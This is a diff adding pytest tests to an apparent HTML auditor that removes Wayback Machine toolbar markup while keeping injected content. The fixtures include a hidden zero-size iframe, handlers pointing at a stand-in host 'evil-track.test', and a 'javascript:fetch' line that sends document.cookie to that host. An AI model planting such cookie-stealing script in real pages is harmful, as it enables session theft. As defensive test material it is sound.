@@ -593,3 +593,59 @@ def test_a_trailer_before_ten_in_the_morning_still_says_a_wayback_copy() -> None
     doc, replay = unwrapped(Document(input="t", kind="html", text=text, url=None))
     assert replay is not None and replay.captured == "2015-03-22T03:42:17Z"
     assert 'href="http://www.harbour-gazette.test/ferry"' in doc.text
+
+
+# the toolbar as the Wayback Machine served it in 2018-2022: share buttons opening the share
+# box, a 'save snapshot' call naming the page, a form sending to the archive's search, the
+# capture notice's `source` and the share links' `data-url`
+_TOOLBAR_2018 = (
+    '<div id="wm-ipp-base" lang="en" style="display:none;direction:ltr;"><div id="wm-ipp">'
+    '<form target="_top" method="get" action="https://web.archive.org/web/submit" name="wmtb">'
+    '<input type="text" name="url" value="https://www.harbour-gazette.test/" '
+    'onfocus="this.focus();this.select();"></form>'
+    '<a href="#" onclick="__wm.saveSnapshot(\'https://www.harbour-gazette.test/\', '
+    '\'20230105123456\')" title="Share via My Web Archive"><span class="iconochive-web">'
+    '</span></a>'
+    '<a href="#" onclick="window.open(\'https://www.facebook.com/sharer/sharer.php?u=https://'
+    'web.archive.org/web/20230105123456/https://www.harbour-gazette.test/\', \'\', '
+    '\'height=400,width=600\'); return false;" title="Share on Facebook" target="_blank">'
+    '<span class="iconochive-facebook"></span></a>'
+    '<a id="wm-share-twitter" href="#" data-url="https://web.archive.org/web/20230105123456/'
+    'https://www.harbour-gazette.test/" title="Share on Twitter"></a>'
+    '<img onmouseover="__wm.st(1)" onmousemove="__wm.mv(event,this)" alt="sparklines" '
+    'src="/static/images/toolbar/sparkline.png">'
+    '<div id="wm-capinfo-notice" source="api"></div>'
+    '<span class="c-logo" style="background-image:url(https://archive.org/services/img/'
+    'webwidecrawl);"></span></div></div>'
+)
+
+
+def test_the_2018_toolbar_is_the_archives_chrome(engine: Engine, catalogue: Catalogue) -> None:
+    # refused, it left archive.org's logo as a third-party host and the share box's URLs
+    text = (f"<!DOCTYPE html>\n<html><head>{_WOMBAT_OF_SITE}</head><body>\n{_TOOLBAR[0]}"
+            f"{_TOOLBAR_2018}{_TOOLBAR[1]}\n<article><p>The council voted.</p></article>"
+            "</body></html>")
+    page = audit_document(Document("t", "html", text, "https://www.harbour-gazette.test/"),
+                          engine, catalogue)
+    assert page.replay is not None
+    assert page.third_party_hosts == () and page.findings == ()
+    assert not [r.url for r in page.resources if "static" in r.url]
+
+
+@pytest.mark.parametrize("injected", [
+    '<iframe src="/web/submit?url=evil-track.test/f&amp;type=replay" width="0" '
+    'height="0" style="display:none"></iframe>',
+    '<a href="#" onclick="window.open(\'https://evil-track.test/x\', \'\', \'width=600\'); '
+    'return false;">Share</a>',
+    '<a href="#" onclick="__wm.saveSnapshot(\'https://evil-track.test/x.js\')">Save</a>',
+    '<a href="/" data-url="javascript:fetch(\'//evil-track.test/\'+document.cookie)">x</a>',
+    '<form action="https://evil-track.test/web/submit"><input name="q"></form>',
+])
+def test_the_toolbars_handlers_and_form_carry_nothing_else(
+    injected: str, engine: Engine, catalogue: Catalogue
+) -> None:
+    text = (f"<html><head>{_WOMBAT_OF_SITE}</head><body>{_TOOLBAR[0]}{injected}{_TOOLBAR[1]}"
+            "<p>story</p></body></html>")
+    doc, replay = unwrapped(Document(input="t", kind="html", text=text,
+                                     url="https://www.harbour-gazette.test/"))
+    assert replay is not None and injected in doc.text
